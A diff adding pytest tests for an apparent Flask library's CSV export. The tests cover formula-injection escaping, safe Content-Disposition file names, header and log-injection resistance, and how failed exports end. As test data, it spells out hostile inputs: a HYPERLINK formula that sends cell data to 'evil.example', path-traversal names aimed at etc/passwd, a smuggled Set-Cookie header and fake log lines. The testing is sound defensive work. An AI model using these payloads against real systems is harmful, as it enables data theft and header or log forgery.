@@ -8,19 +8,30 @@ import csv
 import dataclasses
 import datetime
 import io
+import json
 import logging
+import re
 import sqlite3
 import tracemalloc
 import typing as t
+import unicodedata
 from decimal import Decimal
+from urllib.parse import unquote
 
 import pytest
 from flask import Flask, Response, abort, request
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from werkzeug.routing import BaseConverter
 
 from flask_respkit import RespKit, csv_export
-from flask_respkit.export import BATCH_ROWS
+from flask_respkit.export import (
+    BATCH_ROWS,
+    BROKEN_TAIL,
+    content_disposition,
+    escape_rows,
+    escape_text,
+)
 
 Point = collections.namedtuple("Point", "x y label")
 
@@ -196,7 +207,7 @@ def test_cells_none_numbers_bools_decimals_and_dates(app: Flask) -> None:
     assert float(cells[3]) == -2.5e-10
 
 
-FORMULAS = ["=1+1", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "\nx", '=HYPERLINK("a")']
+FORMULAS = ["=1+1", "+1+1", "-x", "@SUM(A1)", "\tx", "\rx", "\nx", '=HYPERLINK("a")']
 
 
 @pytest.mark.parametrize("text", FORMULAS)
@@ -309,6 +320,289 @@ def test_any_cells_round_trip_exactly_with_escaping_off(
                 assert float(text) == cell
 
 
+# The formula escape, cell by cell ------------------------------------------------
+
+#: Where a reader may start a cell inside a string: after a separator, or at a
+#: line break (a reader splitting on another separator misses the quotes).
+SEPARATORS = [",", ";", "\t", '"']
+BREAKS = [
+    "\n",
+    "\r",
+    "\x0b",
+    "\x0c",
+    "\x1c",
+    "\x1d",
+    "\x1e",
+    "\x85",
+    "\u2028",
+    "\u2029",
+]
+#: What may come between a cell start and the trigger: every control, format,
+#: space and line-separator character, as Unicode classifies them.
+BLANKS = [
+    c
+    for c in map(chr, [*range(0x10000), 0x110BD, 0x1D173, 0xE0001, 0xE0041])
+    if unicodedata.category(c) in ("Cc", "Cf", "Zs", "Zl", "Zp")
+]
+NUMBER = re.compile(
+    r" *[+-]?(?:[0-9]+(?:[.,][0-9]+)*[.,]?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?%? *"
+)
+
+
+def cell_starts(text: str) -> t.Iterator[tuple[str, str]]:
+    """Every text a spreadsheet may take as a cell in ``text`` but the whole
+    string, each with the characters that make it a formula after blanks:
+    what follows each separator up to the next one or a line break (there a
+    new row starts), and each line after the first."""
+    lines = re.split("|".join(map(re.escape, BREAKS)), text)
+    for line in lines[1:]:
+        yield line, "=+-@"
+    for sep in SEPARATORS:
+        for line in lines:
+            for piece in line.split(sep)[1:]:
+                yield piece, "=+-@\t\x00"
+
+
+def starts_a_formula(piece: str, triggers: str) -> bool:
+    for char in piece:
+        if char in triggers:
+            return True
+        if unicodedata.category(char) not in ("Cc", "Cf", "Zs", "Zl", "Zp"):
+            return False
+    return False
+
+
+def assert_neutral(escaped: str) -> None:
+    """No cell a spreadsheet may see in ``escaped`` starts a formula, unless
+    it is a number literal (for the whole string: the whole of it)."""
+    if starts_a_formula(escaped, "=+-@\t\r\n\x00"):
+        assert NUMBER.fullmatch(escaped), escaped
+    for piece, triggers in cell_starts(escaped):
+        if starts_a_formula(piece, triggers):
+            assert NUMBER.fullmatch(piece), (piece, escaped)
+
+
+def assert_only_quotes_added(text: str, escaped: str) -> None:
+    rest = iter(escaped)
+    for char in text:  # text is a subsequence of escaped ...
+        assert any(c == char for c in rest), (text, escaped)
+    # ... and everything added is a quote.
+    assert sorted(escaped.replace("'", "")) == sorted(text.replace("'", ""))
+
+
+ISSUE_CELLS = {
+    '\x00=HYPERLINK("http://evil.example/?"&B1)': (
+        '\'\x00=HYPERLINK("http://evil.example/?"&B1)'
+    ),
+    'Mallory;=HYPERLINK("http://x")': 'Mallory;\'=HYPERLINK("http://x")',
+    "Eve\t=1+1": "Eve\t'=1+1",
+    "  =1+1": "'  =1+1",
+    "-42": "-42",
+    "+1.5e3": "+1.5e3",
+}
+
+
+@pytest.mark.parametrize(("text", "expected"), ISSUE_CELLS.items())
+def test_the_cells_of_the_review_are_neutralised(
+    app: Flask, text: str, expected: str
+) -> None:
+    assert escape_text(text) == expected
+    r = get(app, csv_export(), [("a", text)])
+    assert parse(r.data) == [["a", expected]]
+
+
+@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r", "\n", "\x00"])
+def test_a_trigger_after_blanks_is_neutralised(trigger: str) -> None:
+    for blank in BLANKS:
+        for text in (f"{blank}{trigger}1+1", f"{blank * 3}{trigger}HYPERLINK(1)"):
+            escaped = escape_text(text)
+            assert escaped.startswith("'"), repr(text)
+            assert_neutral(escaped)
+            assert_only_quotes_added(text, escaped)
+
+
+@pytest.mark.parametrize("sep", SEPARATORS + BREAKS + ["\r\n"])
+@pytest.mark.parametrize("trigger", ["=", "+", "-", "@"])
+def test_a_trigger_after_a_separator_or_line_break_is_neutralised(
+    sep: str, trigger: str
+) -> None:
+    for blank in ["", " ", "   ", "\x00", "\xa0", "\u200b", "\ufeff", "\u3000"]:
+        text = f"Mallory{sep}{blank}{trigger}HYPERLINK(1)"
+        escaped = escape_text(text)
+        assert escaped.endswith(f"'{blank}{trigger}HYPERLINK(1)"), repr(escaped)
+        assert escaped.startswith("Mallory")
+        assert_neutral(escaped)
+        assert_only_quotes_added(text, escaped)
+
+
+@pytest.mark.parametrize("sep", SEPARATORS)
+@pytest.mark.parametrize("control", ["\t", "\x00"])
+def test_a_tab_or_nul_starting_a_cell_inside_is_neutralised(
+    sep: str, control: str
+) -> None:
+    text = f"a{sep}{control}b"
+    if sep == control:  # a TAB after a TAB: the empty cell between them
+        assert escape_text(text) == text
+    else:
+        assert escape_text(text) == f"a{sep}'{control}b"
+
+
+@pytest.mark.parametrize("sep", SEPARATORS)
+@pytest.mark.parametrize("blank", [b for b in BLANKS if b not in [*BREAKS, "\t"]])
+def test_a_trigger_after_inner_blanks_is_neutralised(sep: str, blank: str) -> None:
+    text = f"Mallory{sep}{blank}{blank}=1+1"
+    assert escape_text(text) == f"Mallory{sep}'{blank}{blank}=1+1"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "leave at the door,\nring twice",
+        "Street 1;\r\nCity",
+        'quoted "\nitem',
+        "a\t\tb",
+        "a\t\t\t",
+        "a,\n\nb",
+    ],
+)
+def test_a_line_break_ends_the_cell_inside_a_string(text: str) -> None:
+    # The cell after the separator is empty; the next line is checked on its own.
+    assert escape_text(text) == text
+    assert escape_text(text + "\n=1") == text + "\n'=1"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "-42",
+        "+42",
+        "-1.5",
+        "+1.5e3",
+        "-2.5E-10",
+        "-.5",
+        " -7 ",
+        "-1,234.50",
+        "-0,5",
+        "-12%",
+        "1,-2",
+        "3; -4",
+        "x\t-1",
+        'He said "-5"',
+        "Totals:\n-42\n+17",
+        "Totals:\r\n-42\r\n+17",
+        "a\n\nb",
+        "Items:\n\n\nend",
+        "alice@example.com",
+        "2024-01-02",
+        "3 - 1 = 2",
+        "note; call back",
+    ],
+)
+def test_number_literals_and_plain_text_are_left_alone(app: Flask, text: str) -> None:
+    assert escape_text(text) == text
+    rows = [(text, i) for i in range(BATCH_ROWS + 3)]
+    r = get(app, csv_export(), rows)
+    assert {row[0] for row in parse(r.data)} == {text}
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("-1+2", "'-1+2"),
+        ("+1 555 0100", "'+1 555 0100"),  # a phone number is not a number literal
+        ("-inf", "'-inf"),
+        ("-E5", "'-E5"),
+        ("--1", "'--1"),
+        ("-0x1F", "'-0x1F"),
+        ("- 5", "'- 5"),
+        ("-1,-2", "'-1,-2"),
+        ("-\u0661\u0662", "'-\u0661\u0662"),  # Arabic-Indic digits
+        ("-\uff15", "'-\uff15"),  # a fullwidth digit
+        ("\t-42", "'\t-42"),
+        ("\xa0-42", "'\xa0-42"),
+        ("-42\n=1", "'-42\n'=1"),
+        ("-42\r\n+17", "'-42\r\n+17"),
+        ("a\r\n=1", "a\r\n'=1"),
+        ("-42;=1", "'-42;'=1"),
+        ("a,-5;=1", "a,'-5;'=1"),
+        ("Items:\n- one\n- two", "Items:\n'- one\n'- two"),
+    ],
+)
+def test_text_that_only_looks_like_a_number_is_escaped(
+    text: str, expected: str
+) -> None:
+    assert escape_text(text) == expected
+    assert_neutral(expected)
+
+
+hostile_text = st.text(
+    st.one_of(
+        st.sampled_from(
+            [*"=+-@\t\r\n\x00 ,;\"'a1.%eE", "\xa0", "\u200b", "\u2028", "\x85"]
+        ),
+        st.characters(exclude_categories=("Cs",)),
+    ),
+    max_size=24,
+)
+
+
+@settings(max_examples=400, deadline=None)
+@given(hostile_text)
+def test_any_text_is_neutralised_by_adding_quotes_only(text: str) -> None:
+    escaped = escape_text(text)
+    assert_neutral(escaped)
+    assert_only_quotes_added(text, escaped)
+    assert escape_text(escaped) == escaped
+
+
+@settings(max_examples=150, deadline=None)
+@given(
+    st.lists(
+        st.tuples(
+            st.one_of(st.none(), hostile_text),
+            hostile_text,
+            st.one_of(st.none(), st.integers(), hostile_text),
+        ),
+        min_size=1,
+        max_size=12,
+    )
+)
+def test_the_column_scan_escapes_exactly_what_each_cell_needs(
+    rows: list[tuple[t.Any, ...]],
+) -> None:
+    expected = [
+        tuple(escape_text(c) if isinstance(c, str) else c for c in row) for row in rows
+    ]
+    assert [tuple(row) for row in escape_rows(list(rows))] == expected
+
+
+def test_a_hostile_cell_is_found_in_any_row_of_a_batch(app: Flask) -> None:
+    hostile = [
+        "x;=1+1",
+        "x\n@SUM(A1)",
+        'x"+1+1',
+        "x,\t=1",
+        "x\u2028-A1",
+        "  =1",
+        "\x00=1",
+    ]
+    n = BATCH_ROWS * 2
+
+    def rows() -> t.Iterator[tuple[t.Any, ...]]:
+        for i in range(n):
+            cell = hostile[i // 97 % len(hostile)] if i % 97 == 13 else f"n {i}"
+            yield (i, cell, "2024-01-02", None if i % 3 else "a; b")
+
+    cells = parse(get(app, csv_export(), rows).data)
+    assert len(cells) == n
+    for i, row in enumerate(cells):
+        if i % 97 == 13:
+            text = hostile[i // 97 % len(hostile)]
+            assert row[1] == escape_text(text) != text
+        else:
+            assert row[1] == f"n {i}"
+
+
 # Response headers ------------------------------------------------------------
 
 
@@ -359,7 +653,8 @@ def test_filename_callable_gets_the_view_arguments(app: Flask) -> None:
     r = Client(app).get("/shops/3/orders.csv?q=x%0D%0ASet-Cookie:%20a=b/..")
     value = r.headers["Content-Disposition"]
     assert not {"\r", "\n", "/"} & set(value)
-    assert value.startswith('attachment; filename="shop-3-x__Set-Cookie: a=b_...csv"')
+    assert value.startswith('attachment; filename="shop-3-x__Set-Cookie: a=b_.__csv"')
+    assert ".." not in value
     assert "Set-Cookie" not in r.headers
 
 
@@ -504,9 +799,11 @@ def test_later_error_is_logged_and_cuts_the_stream(
     assert r.status_code == 200
     chunks = iter(r.response)
     assert parse(next(chunks) + next(chunks))[-1] == [str(BATCH_ROWS)]
-    with caplog.at_level(logging.ERROR), pytest.raises(RuntimeError):
+    with caplog.at_level(logging.ERROR):
+        assert next(chunks) == b'"' + BROKEN_TAIL.encode()
+    with pytest.raises(RuntimeError):
         next(chunks)
-    assert "csv_export: the export of /x stopped after" in caplog.text
+    assert "csv_export: the export of '/x' stopped after" in caplog.text
     assert "database went away" in caplog.text
     assert closed == [True]
 
@@ -823,17 +1120,69 @@ def test_csv_export_cannot_move_below_a_foreign_decorator(app: Flask) -> None:
         csv_export()(foreign(headers(x_a="1")(rows)))
 
 
-def test_negotiate_ignores_a_query_string_that_is_not_utf8(app: Flask) -> None:
+RAW_QUERIES = [
+    "format=csv&q=\xff",  # a byte that never starts UTF-8
+    "q=\x80",  # a lone continuation byte
+    "q=caf\xc3",  # a sequence cut short
+    "q=\xc0\xaf",  # an overlong "/"
+    "q=\xed\xa0\x80",  # an encoded surrogate
+    "format=\xf4\x90\x80\x80",  # beyond U+10FFFF
+]
+
+
+@pytest.mark.parametrize("query", RAW_QUERIES)
+@pytest.mark.parametrize("accept", ["text/csv", "application/json", None])
+def test_negotiate_answers_400_to_a_query_string_that_is_not_utf8(
+    app: Flask, query: str, accept: str | None
+) -> None:
     # A server may pass raw bytes through; request.args cannot decode them.
-    route(app, csv_export(negotiate=True), [(1, 2)])
+    # paginate answers 400, and so does negotiation, through the error handlers.
+    app.config["TESTING"] = False
+    started = []
+
+    def rows() -> t.Iterator[tuple[int, int]]:
+        started.append(True)
+        yield (1, 2)
+
+    @app.errorhandler(400)
+    def bad_request(e: Exception) -> tuple[dict[str, str], int]:
+        return {"error": getattr(e, "description", "")}, 400
+
+    route(app, csv_export(negotiate=True, filename="x.csv"), rows)
+    r = Client(app).get(
+        "/x",
+        headers={"Accept": accept} if accept else {},
+        environ_overrides={"QUERY_STRING": query},
+    )
+    assert r.status_code == 400
+    assert r.json == {"error": "The query string is not valid UTF-8."}
+    assert "Content-Disposition" not in r.headers
+    assert started == []  # negotiation comes before the first row
+
+
+def test_negotiate_and_paginate_answer_a_bad_query_string_alike(app: Flask) -> None:
+    from flask_respkit import Pagination, paginate
+
+    @app.get("/both")
+    @paginate()
+    @csv_export(negotiate=True)
+    def both(pagination: Pagination) -> list[dict[str, int]]:
+        return [{"a": 1}]
+
+    route(app, csv_export(negotiate=True), [{"a": 1}], "/export")
     c = Client(app)
-    for accept, kind in (("text/csv", "text/csv"), ("*/*", "application/json")):
-        r = c.get(
-            "/x",
-            headers={"Accept": accept},
-            environ_overrides={"QUERY_STRING": "format=csv&q=\xff"},
-        )
-        assert (r.status_code, r.mimetype) == (200, kind)
+    answers = [
+        c.get(path, environ_overrides={"QUERY_STRING": "q=\xff"})
+        for path in ("/both", "/export")
+    ]
+    assert {(r.status_code, r.data) for r in answers} == {(400, answers[0].data)}
+    assert b"The query string is not valid UTF-8." in answers[0].data
+
+
+def test_without_negotiate_the_query_string_is_not_read(app: Flask) -> None:
+    route(app, csv_export(), [(1, 2)])
+    r = Client(app).get("/x", environ_overrides={"QUERY_STRING": "q=\xff"})
+    assert (r.status_code, r.data) == (200, b"1,2\r\n")
 
 
 def test_a_lone_surrogate_in_a_computed_filename_is_replaced(app: Flask) -> None:
@@ -851,3 +1200,403 @@ def test_a_lone_surrogate_in_a_computed_filename_is_replaced(app: Flask) -> None
     disposition = r.headers["Content-Disposition"]
     assert disposition.isascii()
     assert 'filename="q3 _.csv"' in disposition
+
+
+# bytes cells and rows that are not sequences -----------------------------------
+
+
+BINARY_CELLS = [
+    (b"caf\xc3\xa9", "café"),
+    (bytearray(b"Zo\xc3\xab"), "Zoë"),
+    (memoryview(b"plain"), "plain"),  # what psycopg gives for bytea
+    (b"bad \xff\xfe bytes", "bad \ufffd\ufffd bytes"),
+    (b"", ""),
+]
+
+
+@pytest.mark.parametrize("escape", [True, False])
+def test_bytes_cells_are_written_as_utf8_text(app: Flask, escape: bool) -> None:
+    rows = [(cell, i) for i, (cell, _) in enumerate(BINARY_CELLS)]
+    rows.append((b"=1+1", 99))
+    rows.append(("text", b"-x"))  # a mixed column
+    r = get(app, csv_export(["blob", "n"], escape_formulas=escape), rows)
+    formula = "'=1+1" if escape else "=1+1"
+    assert parse(r.data)[1:] == [
+        *([text, str(i)] for i, (_, text) in enumerate(BINARY_CELLS)),
+        [formula, "99"],
+        ["text", "'-x" if escape else "-x"],
+    ]
+    assert b"b'" not in r.data
+    assert b"<memory" not in r.data
+
+
+def test_bytes_cells_in_ragged_rows_and_dicts(app: Flask) -> None:
+    route(app, csv_export(), [(b"a",), (b"@b", bytearray(b"c"))], "/ragged")
+    route(app, csv_export(), [{"k": b"\xc3\xa9", "v": memoryview(b"+1+1")}], "/dict")
+    c = Client(app)
+    assert parse(c.get("/ragged").data) == [["a"], ["'@b", "c"]]
+    assert parse(c.get("/dict").data) == [["k", "v"], ["é", "'+1+1"]]
+
+
+@pytest.mark.parametrize("escape", [True, False])
+def test_rows_that_are_iterators_are_read_once(app: Flask, escape: bool) -> None:
+    rows = [iter((1, "=x")), (2, "y"), {3}, range(4, 6)]
+    route(app, csv_export(escape_formulas=escape), lambda: iter(rows))
+    r = Client(app).get("/x")
+    assert parse(r.data) == [
+        ["1", "'=x" if escape else "=x"],
+        ["2", "y"],
+        ["3"],
+        ["4", "5"],
+    ]
+
+
+# A failed export -------------------------------------------------------------------
+
+
+class Semicolons(csv.excel):
+    delimiter = ";"
+
+
+class SingleQuotes(csv.excel):
+    quotechar = "'"
+
+
+def failing_rows(n: int) -> t.Iterator[dict[str, t.Any]]:
+    for i in range(n):
+        yield {"i": i, "name": f'row "{i}", ok'}
+    raise RuntimeError("database went away")
+
+
+def read_until_the_error(app: Flask) -> bytes:
+    r = Client(app).get("/x", buffered=False)
+    assert r.status_code == 200
+    chunks: list[bytes] = []
+    with pytest.raises(RuntimeError, match="database went away"):
+        chunks.extend(r.response)  # keeps what came before the error
+    r.close()
+    return b"".join(chunks)
+
+
+@pytest.mark.parametrize(
+    "dialect", ["excel", "excel-tab", "unix", Semicolons, SingleQuotes]
+)
+@pytest.mark.parametrize("n", [1, 2, BATCH_ROWS, BATCH_ROWS * 2 + 1])
+def test_a_failed_export_ends_in_a_field_that_never_closes(
+    app: Flask, dialect: t.Any, n: int
+) -> None:
+    pd = pytest.importorskip("pandas")
+    route(app, csv_export(dialect=dialect, bom=True), lambda: failing_rows(n))
+    body = read_until_the_error(app)
+    quote = (
+        csv.get_dialect(dialect).quotechar
+        if isinstance(dialect, str)
+        else (dialect.quotechar)
+    )
+    assert body.endswith((quote + BROKEN_TAIL).encode())
+    text = body.decode("utf-8-sig")
+    options = {"dialect": dialect}
+    good, _, _ = text.rpartition(quote + BROKEN_TAIL)
+    # The rows written before are complete and intact ...
+    read = list(csv.reader(io.StringIO(good, newline=""), **options))
+    assert read[0] == ["i", "name"]
+    assert read[1:] == [[str(i), f'row "{i}", ok'] for i in range(len(read) - 1)]
+    assert 1 <= len(read) - 1 <= n
+    # ... and no strict reader takes the body for a complete file.
+    with pytest.raises(csv.Error, match="unexpected end of data"):
+        list(csv.reader(io.StringIO(text, newline=""), strict=True, **options))
+    for engine in ("c", "python"):
+        with pytest.raises(pd.errors.ParserError):
+            pd.read_csv(
+                io.StringIO(text),
+                engine=engine,
+                sep=csv.get_dialect(dialect).delimiter
+                if isinstance(dialect, str)
+                else dialect.delimiter,
+                quotechar=quote,
+            )
+
+
+def test_a_row_that_fails_to_convert_mid_stream_breaks_the_body_too(
+    app: Flask,
+) -> None:
+    def rows() -> t.Iterator[t.Any]:
+        yield from ((i, i) for i in range(BATCH_ROWS))
+        yield {"a": 1}  # a mapping after unnamed rows: a TypeError when written
+
+    route(app, csv_export(), rows)
+    r = Client(app).get("/x", buffered=False)
+    chunks: list[bytes] = []
+    with pytest.raises(TypeError, match="pass columns="):
+        chunks.extend(r.response)
+    r.close()
+    assert b"".join(chunks).endswith(b'"' + BROKEN_TAIL.encode())
+
+
+def test_a_failed_negotiated_json_export_is_not_valid_json(app: Flask) -> None:
+    route(app, csv_export(negotiate=True), lambda: failing_rows(BATCH_ROWS + 1))
+    body = read_until_the_error(app)
+    assert body.startswith(b"[{")
+    with pytest.raises(json.JSONDecodeError):
+        json.loads(body)
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [
+        "a%0AFAKE%20csv_export:%20all%20good",
+        "a%0D%0Ab",
+        "%1B[31mred",
+        "a%00b",
+        "a%C2%85b",  # NEL
+        "a%E2%80%A8b",  # LINE SEPARATOR
+        "a%E2%80%AEb",  # RIGHT-TO-LEFT OVERRIDE
+        "a%09b",
+    ],
+)
+def test_the_failure_log_line_shows_the_path_quoted(
+    app: Flask, caplog: pytest.LogCaptureFixture, raw: str
+) -> None:
+    class Anything(BaseConverter):  # <path> stops at a line break
+        regex = r"[\s\S]+"
+        part_isolating = False
+
+    app.url_map.converters["anything"] = Anything
+
+    @app.get("/x/<anything:rest>")
+    @csv_export()
+    def view(rest: str) -> t.Iterator[dict[str, t.Any]]:
+        return failing_rows(3)
+
+    r = Client(app).get(f"/x/{raw}", buffered=False)
+    with caplog.at_level(logging.ERROR), pytest.raises(RuntimeError):
+        for _ in r.response:
+            pass
+    r.close()
+    (record,) = [r for r in caplog.records if "csv_export" in r.getMessage()]
+    message = record.getMessage()
+    assert message.isprintable(), repr(message)
+    path = "/x/" + unquote(raw)
+    assert f"the export of {path!r} stopped after" in message
+
+
+# Content-Disposition ---------------------------------------------------------------
+
+DISPOSITION = re.compile(
+    r"""attachment; filename="([ -~]*)"; filename\*=UTF-8''(\S+)"""
+)
+BIDI = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
+
+
+def assert_safe_disposition(value: str) -> tuple[str, str]:
+    """Neither name carries path information or invisible characters, however
+    a client normalises it; returns both."""
+    match = DISPOSITION.fullmatch(value)
+    assert match, value
+    fallback = match.group(1)
+    exact = unquote(match.group(2), errors="strict")
+    assert not set('"\\/%') & set(fallback)
+    for form in (
+        fallback,
+        exact,
+        unicodedata.normalize("NFKC", exact),
+        "".join(
+            c
+            for c in unicodedata.normalize("NFKD", exact)
+            if not unicodedata.category(c).startswith(("M", "Cf"))
+        ),
+    ):
+        assert ".." not in form, (form, value)
+        assert "/" not in form, (form, value)
+        assert "\\" not in form, (form, value)
+        for char in form:
+            assert unicodedata.category(char) not in ("Cc", "Cs", "Zl", "Zp"), value
+            assert char not in BIDI, value
+    return fallback, exact
+
+
+def _normalising_to(*texts: str) -> list[str]:
+    return [
+        c
+        for c in map(chr, range(0x110000))
+        if not 0xD800 <= ord(c) < 0xE000
+        and any(text in unicodedata.normalize("NFKC", c) for text in texts)
+    ]
+
+
+#: Every character that normalises to something holding ``/``, ``\`` or ``.``.
+LOOKALIKES = _normalising_to("/", "\\", ".")
+UNSAFE = [chr(c) for c in [*range(0x20), *range(0x7F, 0xA0)]] + sorted(BIDI)
+
+
+@pytest.mark.parametrize(
+    ("name", "fallback", "exact"),
+    [
+        ("..\uff0f..\uff0fetc\uff0fpasswd", ".__.__etc_passwd", ".__.__etc_passwd"),
+        (
+            "\u2024\u2024\uff0f\u2024\u2024\uff0fx",
+            ".__.__x",
+            "\u2024__\u2024__x",
+        ),
+        ("\u2025\\secret", ".__secret", "__secret"),
+        ("a\u202ecod.exe", "a_cod.exe", "a_cod.exe"),
+        ("report\x85\u2066.csv", "report__.csv", "report__.csv"),
+        ("q3...final.csv", "q3.__final.csv", "q3.__final.csv"),
+    ],
+)
+def test_content_disposition_normalises_then_replaces(
+    name: str, fallback: str, exact: str
+) -> None:
+    value = content_disposition(name)
+    assert assert_safe_disposition(value) == (fallback, exact)
+
+
+def test_no_look_alike_of_a_dot_or_slash_builds_a_path() -> None:
+    for a in LOOKALIKES:
+        for name in (f"{a}{a}{a}passwd", f".{a}etc", f"{a}.x", f"x{a}\u0301.", f"{a}"):
+            assert_safe_disposition(content_disposition(name))
+
+
+def test_controls_and_bidi_overrides_become_underscores() -> None:
+    for char in UNSAFE:
+        fallback, exact = assert_safe_disposition(content_disposition(f"a{char}b.csv"))
+        assert (fallback, exact) == ("a_b.csv", "a_b.csv"), repr(char)
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    st.text(
+        st.one_of(
+            st.sampled_from([*"./\\%\"';", *LOOKALIKES[:40], *UNSAFE, "\u0301"]),
+            st.characters(),
+        ),
+        min_size=1,
+        max_size=16,
+    )
+)
+def test_any_file_name_gives_a_safe_content_disposition(name: str) -> None:
+    assert_safe_disposition(content_disposition(name))
+
+
+def test_a_computed_file_name_from_the_request_is_made_safe(app: Flask) -> None:
+    route(
+        app,
+        csv_export(filename=lambda **kw: request.args["name"]),
+        [{"a": 1}],
+    )
+    c = Client(app)
+    for name in ["..\uff0f..\uff0fetc\uff0fpasswd", "\u2025/x", "a\u202etxt.csv"]:
+        r = c.get("/x", query_string={"name": name})
+        assert r.status_code == 200
+        assert_safe_disposition(r.headers["Content-Disposition"])
+
+
+# The negotiated JSON -------------------------------------------------------------
+
+
+def keys_in_order(body: bytes) -> list[list[str]]:
+    return [[k for k, _ in item] for item in json.loads(body, object_pairs_hook=list)]
+
+
+def test_negotiated_json_keeps_the_column_order(app: Flask) -> None:
+    assert app.json.sort_keys  # Flask's default: sorted keys
+    rows = [{"a": 1, "m": 2, "z": 3}]
+    route(app, csv_export({"z": "Z", "a": "A", "m": "M"}, negotiate=True), rows, "/map")
+    route(app, csv_export(["m", "z"], negotiate=True), rows, "/list")
+    route(app, csv_export(negotiate=True), [{"z": 1, "a": 2}, {"a": 3}], "/first")
+    route(app, csv_export(negotiate=True), [Order(1, Decimal(2))], "/dc")
+
+    @app.get("/other")
+    def other() -> dict[str, int]:
+        return {"z": 1, "a": 2}
+
+    c = Client(app)
+    assert keys_in_order(c.get("/map").data) == [["z", "a", "m"]]
+    assert keys_in_order(c.get("/list").data) == [["m", "z"]]
+    assert keys_in_order(c.get("/first").data) == [["z", "a"], ["z", "a"]]
+    assert keys_in_order(c.get("/dc").data) == [["id", "total", "note"]]
+    # The rest of the app keeps its provider's settings.
+    assert c.get("/other").data.replace(b" ", b"").startswith(b'{"a":2,"z":1}')
+
+
+def test_negotiated_json_writes_dates_as_iso_8601(app: Flask) -> None:
+    import uuid
+
+    tz = datetime.timezone(datetime.timedelta(hours=2))
+    row = {
+        "day": datetime.date(2024, 2, 29),
+        "at": datetime.datetime(2024, 2, 29, 13, 5, 1),
+        "aware": datetime.datetime(2024, 2, 29, 13, 5, 1, 500, tzinfo=tz),
+        "time": datetime.time(7, 30),
+        "amount": Decimal("-0.10"),
+        "id": uuid.UUID(int=1),
+        "blob": b"caf\xc3\xa9",
+        "none": None,
+    }
+    r = get(app, csv_export(negotiate=True), [row])
+    assert r.json == [
+        {
+            "day": "2024-02-29",
+            "at": "2024-02-29T13:05:01",
+            "aware": "2024-02-29T13:05:01.000500+02:00",
+            "time": "07:30:00",
+            "amount": "-0.10",  # still Flask's provider
+            "id": "00000000-0000-0000-0000-000000000001",
+            "blob": "café",
+            "none": None,
+        }
+    ]
+
+
+def test_negotiated_json_of_sequence_rows_writes_dates_as_iso_8601(app: Flask) -> None:
+    r = get(app, csv_export(negotiate=True), [(datetime.date(2024, 1, 2), b"x")])
+    assert r.json == [["2024-01-02", "x"]]
+
+
+def test_negotiated_json_uses_a_custom_provider(bare_app: Flask) -> None:
+    from flask.json.provider import JSONProvider
+
+    class Money:
+        cents = 150
+
+    class Provider(JSONProvider):
+        def dumps(self, obj: t.Any, **kwargs: t.Any) -> str:  # no sort_keys
+            assert not kwargs
+            return json.dumps(obj, default=lambda o: f"{o.cents / 100:.2f} EUR")
+
+        def loads(self, s: str | bytes, **kwargs: t.Any) -> t.Any:
+            return json.loads(s)
+
+    bare_app.json = Provider(bare_app)
+    rows = [{"z": Money(), "a": datetime.date(2024, 1, 2)}]
+    r = get(bare_app, csv_export(negotiate=True), rows)
+    assert json.loads(r.data, object_pairs_hook=list) == [
+        [("z", "1.50 EUR"), ("a", "2024-01-02")]
+    ]
+
+
+@settings(max_examples=60, deadline=None)
+@given(
+    st.lists(
+        st.tuples(
+            st.one_of(st.none(), st.integers(), st.floats(allow_nan=False)),
+            hostile_text,
+            st.one_of(st.binary(max_size=12), hostile_text.map(str.encode)),
+        ),
+        max_size=20,
+    )
+)
+def test_any_cells_export_escaped_and_decoded(rows: list[tuple[t.Any, ...]]) -> None:
+    app = Flask(__name__)
+    route(app, csv_export(["n", "text", "blob"]), rows)
+    r = Client(app).get("/x")
+    assert r.status_code == 200
+    expected = [
+        [
+            "" if n is None else str(n),
+            escape_text(text),
+            escape_text(blob.decode("utf-8", "replace")),
+        ]
+        for n, text, blob in rows
+    ]
+    assert parse(r.data) == [["n", "text", "blob"], *expected]
